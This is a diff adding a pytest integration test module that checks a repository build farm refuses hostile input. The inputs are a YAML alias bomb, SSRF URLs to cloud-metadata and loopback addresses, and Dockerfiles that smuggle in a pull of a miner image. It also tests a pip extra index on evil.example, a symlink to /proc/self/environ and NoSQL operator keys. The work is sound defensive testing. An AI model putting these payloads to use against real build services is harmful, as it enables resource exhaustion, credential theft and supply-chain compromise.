@@ -1,0 +1,351 @@
+"""Hostile repositories and requests: each is refused, or fails with a sentence, and harms nothing.
+
+Every case is a real repository on the loopback Git server or a real HTTP
+request. Each ends in a refusal (an HTTP error) or a ``failed`` build whose
+``error`` a user can act on; afterwards the farm still answers its health
+check, and the last tests of the module build a good repository on each
+farm. Nothing here makes the farm connect outside loopback: refusals of
+private and link-local ranges are tested at the address check
+(``tests/unit/test_addresses.py``), and the cases below that name such
+addresses are refused before any connection.
+
+Two farms: the session's (``api``) and a *strict* one (``strict_api``) with
+an allowed-images list and a 1 MiB repository limit, for the cases that
+need those settings. To add a case: a function per defect, named for it,
+building with :func:`failed_build` or asserting a refusal, then
+:func:`assert_healthy`.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shlex
+import socket
+import threading
+from collections.abc import Iterator
+
+import pytest
+
+from tests.integration.conftest import API_KEY, DATA_DIR, RUN_ID, unique
+from tests.support.farm import ApiClient, Farm
+from tests.support.git_server import GitServer
+
+BASE_IMAGE = "127.0.0.1:5000/binder-base:latest"
+
+# 470 bytes that expand to a billion list entries through aliases.
+LAUGHS = "\n".join(
+    ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
+    + [f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, 9)]) + "\n"
+
+
+@pytest.fixture(scope="module")
+def strict_api(farm_env: dict[str, str], services: None) -> Iterator[ApiClient]:
+    """A second farm (own database, broker prefix, API and worker) with strict limits."""
+    env = {**farm_env,
+           "BINDER_MONGO_DB": f"binder_test_{RUN_ID}_strict",
+           "BINDER_BROKER_PREFIX": f"test-{RUN_ID}-strict:",
+           "BINDER_IMAGE_PREFIX": f"test-{RUN_ID}-strict-",
+           "BINDER_DATA_DIR": str(DATA_DIR / "strict"),
+           "BINDER_ALLOWED_BASE_IMAGES": "127.0.0.1:5000/binder-base",
+           "BINDER_MAX_REPO_MB": "1"}
+    farm = Farm(env, DATA_DIR / "logs" / "strict")
+    _, url = farm.start_api()
+    farm.start_worker("strict-a")
+    yield ApiClient(url, API_KEY)
+    farm.stop()
+    from common.db import get_client
+
+    get_client().drop_database(env["BINDER_MONGO_DB"])
+
+
+def failed_build(api: ApiClient, url: str) -> dict:
+    """Start a build of ``url``; return its record once it ended, asserting ``failed``."""
+    started = api.start(url)
+    assert started.status_code == 200, started.text
+    record = api.wait(started.json()["name"], timeout=300)
+    assert record["status"] == "failed", (record, api.logs(record["name"]))
+    assert record["error"] and len(record["error"]) < 600, record["error"]
+    return record
+
+
+def assert_healthy(api: ApiClient) -> None:
+    response = api.request("GET", "/health/")
+    assert response.status_code == 200, response.text
+
+
+def never_reached_detect_end(record: dict) -> None:
+    """The build stopped at detect: no build, push or template phase ever started."""
+    assert record["phase"] == "detecting", record
+    assert set(record["phases"]) <= {"fetching", "detecting"}, record["phases"]
+
+
+# 3. YAML bombs
+
+
+def test_yaml_bomb_in_environment_yml_fails_with_a_short_sentence(
+        api: ApiClient, git_server: GitServer, repo_url: str) -> None:
+    repo = unique("bomb-env")
+    assert len(LAUGHS) < 600
+    git_server.make_repo(f"github/mallory/{repo}", {
+        "environment.yml": LAUGHS + "dependencies: [numpy]\n"})
+    record = failed_build(api, f"{repo_url}/mallory/{repo}")
+    assert record["error"] == ("environment.yml (line 1): YAML anchors (&name) are not "
+                               "accepted; write the value out in full.")
+    never_reached_detect_end(record)
+    assert_healthy(api)
+
+
+def test_yaml_bomb_in_binder_yml_is_never_stored(api: ApiClient, git_server: GitServer,
+                                                 repo_url: str) -> None:
+    repo = unique("bomb-yml")
+    git_server.make_repo(f"github/mallory/{repo}", {
+        ".binder.yml": "services:\n  - name: db\n    params:\n" + "".join(
+            f"      {line}\n" for line in LAUGHS.splitlines())})
+    record = failed_build(api, f"{repo_url}/mallory/{repo}")
+    assert record["error"].startswith(".binder.yml (line 4): YAML anchors")
+    never_reached_detect_end(record)
+    assert len(str(api.build(record["name"]))) < 5000
+    assert_healthy(api)
+
+
+# 4. SSRF and redirects
+
+
+@pytest.mark.parametrize("url", [
+    "https://169.254.169.254/latest/meta-data",
+    "https://[::ffff:169.254.169.254]/o/r",
+    "https://127.0.0.1:1/o/r",
+    "https://2130706433/o/r",
+    "https://[::1]/o/r",
+    "https://10.0.0.1/group/repo",
+])
+def test_private_and_loopback_addresses_in_the_url_are_refused_at_once(api: ApiClient,
+                                                                      url: str) -> None:
+    response = api.start(url)
+    assert response.status_code == 422, response.text
+    body = response.json()
+    assert body["type"] == "badRepoSource"
+    assert "loopback, private or link-local" in body["error"]
+    assert_healthy(api)
+
+
+def test_a_name_that_resolves_to_loopback_fails_before_any_connection(api: ApiClient) -> None:
+    with listening_socket() as (port, connections):
+        record = failed_build(api, f"https://localhost:{port}/o/r")
+        assert record["error"] == ("localhost leads to a loopback, private or link-local "
+                                   "address, which this farm does not fetch from.")
+        assert connections == []
+    assert_healthy(api)
+
+
+def test_a_redirect_from_an_allowed_host_is_not_followed(api: ApiClient, git_server: GitServer,
+                                                         repo_url: str) -> None:
+    with listening_socket() as (port, connections):
+        git_server.redirects["/github/bounce/"] = f"http://127.0.0.1:{port}/"
+        try:
+            record = failed_build(api, f"{repo_url}/bounce/{unique('r')}")
+        finally:
+            git_server.redirects.clear()
+        assert record["error"] == ("The repository's host answered with a redirect, which "
+                                   "this farm does not follow.")
+        assert connections == []  # the redirect's target was never contacted
+    assert_healthy(api)
+
+
+def test_plain_http_is_refused_for_hosts_not_allowed(api: ApiClient) -> None:
+    response = api.start("http://example.org/o/r")
+    assert response.status_code == 422
+    assert "plain http only for hosts in BINDER_ALLOWED_SOURCE_HOSTS" in \
+        response.json()["suggestions"][0]
+
+
+# 5. Dockerfile FROM policy
+
+
+@pytest.mark.parametrize(("dockerfile", "shown"), [
+    (f"FROM {BASE_IMAGE}\nFR\\\nOM evil/miner:1\n",
+     "The Dockerfile's FROM on line 2 would pull docker.io/evil/miner:1"),
+    (f"\ufeff# escape=`\nFROM {BASE_IMAGE}\nRUN echo \\\nFROM evil/miner:1\n",
+     "The Dockerfile's FROM on line 4 would pull docker.io/evil/miner:1"),
+    ("ARG BASE=evil/miner:1\nFROM ${BASE}\n",
+     "The Dockerfile's FROM on line 2 would pull docker.io/evil/miner:1"),
+    (f"FROM {BASE_IMAGE}\nCOPY --from=evil/miner:1 /bin/x /x\n",
+     "The Dockerfile's COPY --from on line 2 would pull docker.io/evil/miner:1"),
+    (f"FROM {BASE_IMAGE}\nRUN --mount=type=bind,from=evil/miner:1,target=/m true\n",
+     "The Dockerfile's RUN --mount from= on line 2 would pull docker.io/evil/miner:1"),
+    (f"# syntax=evil/frontend:1\nFROM {BASE_IMAGE}\n",
+     "The Dockerfile's # syntax on line 1 would pull docker.io/evil/frontend:1"),
+])
+def test_hidden_base_images_are_refused_at_detect(strict_api: ApiClient, git_server: GitServer,
+                                                  repo_url: str, dockerfile: str,
+                                                  shown: str) -> None:
+    repo = unique("from")
+    git_server.make_repo(f"github/mallory/{repo}", {"Dockerfile": dockerfile})
+    record = failed_build(strict_api, f"{repo_url}/mallory/{repo}")
+    assert record["error"] == (f"{shown}, which this farm does not allow; allowed images: "
+                               "127.0.0.1:5000/binder-base.")
+    never_reached_detect_end(record)
+    assert_healthy(strict_api)
+
+
+# 6. Checkout size
+
+
+def test_an_incompressible_download_is_stopped_at_the_limit(
+        strict_api: ApiClient, git_server: GitServer, repo_url: str) -> None:
+    repo = unique("big")
+    git_server.make_repo(f"github/mallory/{repo}", {"noise.bin": os.urandom(3 * 1024 * 1024)})
+    record = failed_build(strict_api, f"{repo_url}/mallory/{repo}")
+    assert record["error"] == ("The repository's download passed this farm's limit of 1 MiB "
+                               "and was stopped.")
+    assert record["phase"] == "fetching"
+    assert_healthy(strict_api)
+
+
+def test_a_compressible_tree_is_refused_before_checkout(
+        strict_api: ApiClient, git_server: GitServer, repo_url: str) -> None:
+    repo = unique("zeros")
+    # 40 MiB of zeros: a pack of a few dozen KiB, far over the limit once written out.
+    git_server.make_repo(f"github/mallory/{repo}", {"zeros.bin": b"\0" * (40 * 1024 * 1024)})
+    record = failed_build(strict_api, f"{repo_url}/mallory/{repo}")
+    assert record["error"] == ("The repository is 40 MiB, over this farm's limit of 1 MiB; "
+                               "nothing was checked out.")
+    assert record["phase"] == "fetching"
+    assert_healthy(strict_api)
+
+
+# 7. The pip index
+
+
+def test_requirements_that_name_an_index_are_refused_naming_the_line(
+        api: ApiClient, git_server: GitServer, repo_url: str) -> None:
+    repo = unique("index")
+    git_server.make_repo(f"github/mallory/{repo}", {
+        "requirements.txt": "numpy\n--extra-index-url https://evil.example/simple\n"})
+    record = failed_build(api, f"{repo_url}/mallory/{repo}")
+    assert record["error"] == (
+        "requirements.txt line 2 (`--extra-index-url https://evil.example/simple`) names a "
+        "package index; this farm installs packages only from its own index.")
+    never_reached_detect_end(record)
+    assert_healthy(api)
+
+
+# 8. Smaller doors
+
+
+def test_a_dockerignore_link_is_refused(api: ApiClient, git_server: GitServer,
+                                        repo_url: str) -> None:
+    repo = unique("ignore")
+    git_server.make_repo(f"github/mallory/{repo}", {"Dockerfile": f"FROM {BASE_IMAGE}\n"},
+                         symlinks={".dockerignore": "/proc/self/environ"})
+    record = failed_build(api, f"{repo_url}/mallory/{repo}")
+    assert record["error"] == (".dockerignore is a link; this farm reads it only as a file of "
+                               "the repository.")
+    never_reached_detect_end(record)
+    assert_healthy(api)
+
+
+@pytest.mark.parametrize(("binder_yml", "problem"), [
+    ("limits: {memory: 99999999999999999999T}\n", "limits.memory: must be a size"),
+    ("limits: {cpu: 1e300}\n", "limits.cpu: must be at most 64 on this farm"),
+    ("hardware: {privileged: true}\n", "hardware.privileged: Unknown field."),
+    ("'$gt': ''\n", "$gt: Unknown field."),
+    ("services: [{name: db, params: {'$where': '1'}}]\n", "services.0.params.$where.key"),
+])
+def test_unbounded_binder_yml_values_are_refused(api: ApiClient, git_server: GitServer,
+                                                 repo_url: str, binder_yml: str,
+                                                 problem: str) -> None:
+    repo = unique("yml")
+    git_server.make_repo(f"github/mallory/{repo}", {".binder.yml": binder_yml})
+    record = failed_build(api, f"{repo_url}/mallory/{repo}")
+    assert record["error"].startswith(".binder.yml is invalid: ")
+    assert problem in record["error"]
+    never_reached_detect_end(record)
+
+
+def test_a_command_a_shell_cannot_split_is_refused_at_detect(
+        api: ApiClient, git_server: GitServer, repo_url: str) -> None:
+    repo = unique("cmd")
+    git_server.make_repo(f"github/mallory/{repo}", {
+        ".binder.yml": "command: 'jupyter notebook --NotebookApp.token=\"unclosed'\n"})
+    record = failed_build(api, f"{repo_url}/mallory/{repo}")
+    assert record["error"] == (".binder.yml is invalid: command: cannot be split into words "
+                               "as a shell would (No closing quotation); check its quotes")
+    never_reached_detect_end(record)  # not after a build and a push
+    assert_healthy(api)
+
+
+def test_the_verification_container_is_limited(api: ApiClient, git_server: GitServer,
+                                               repo_url: str) -> None:
+    repo = unique("limits")
+    probe = ("cat /sys/fs/cgroup/pids/pids.max /sys/fs/cgroup/pids.max 2>/dev/null; "
+             "grep -E \"^(CapEff|NoNewPrivs)\" /proc/self/status; "
+             "cat /sys/fs/cgroup/cpu/cpu.cfs_quota_us /sys/fs/cgroup/cpu.max 2>/dev/null; "
+             "exit 3")
+    command = f"sh -c {shlex.quote(probe)}"
+    git_server.make_repo(f"github/mallory/{repo}", {
+        "Dockerfile": f"FROM {BASE_IMAGE}\n",
+        ".binder.yml": f"command: {json.dumps(command)}\n"})
+    record = failed_build(api, f"{repo_url}/mallory/{repo}")
+    error = record["error"]
+    assert error.startswith("The image exited (status 3) instead of serving on port 8888."), error
+    assert "256" in error  # pids.max
+    assert "CapEff:\t0000000000000000" in error
+    assert "NoNewPrivs:\t1" in error
+    assert "100000" in error  # one CPU: a quota of 100000 per 100000 period
+    assert_healthy(api)
+
+
+# The farms still build
+
+
+def test_each_farm_still_builds_a_good_repository(api: ApiClient, strict_api: ApiClient,
+                                                  git_server: GitServer,
+                                                  repo_url: str) -> None:
+    for client in (api, strict_api):
+        repo = unique("good")
+        git_server.make_repo(f"github/alice/{repo}", {
+            "Dockerfile": f"FROM {BASE_IMAGE}\nUSER root\nRUN echo ok > /ok\nUSER main\n"})
+        started = client.start(f"{repo_url}/alice/{repo}")
+        assert started.status_code == 200, started.text
+        record = client.wait(started.json()["name"], timeout=600)
+        assert record["status"] == "completed", (record, client.logs(record["name"]))
+
+
+class _Listener:
+    """Counts connections to a loopback port (none are expected)."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(8)
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.connections: list[tuple[str, int]] = []
+        self.running = True
+        self.thread = threading.Thread(target=self._accept, daemon=True)
+        self.thread.start()
+
+    def _accept(self) -> None:
+        while self.running:
+            try:
+                connection, address = self.sock.accept()
+            except OSError:
+                continue
+            self.connections.append(address)
+            connection.close()
+
+    def close(self) -> None:
+        self.running = False
+        self.thread.join(2)
+        self.sock.close()
+
+
+class listening_socket:  # noqa: N801 - used as a context manager like open()
+    def __enter__(self) -> tuple[int, list[tuple[str, int]]]:
+        self.listener = _Listener()
+        return self.listener.port, self.listener.connections
+
+    def __exit__(self, *exc: object) -> None:
+        self.listener.close()
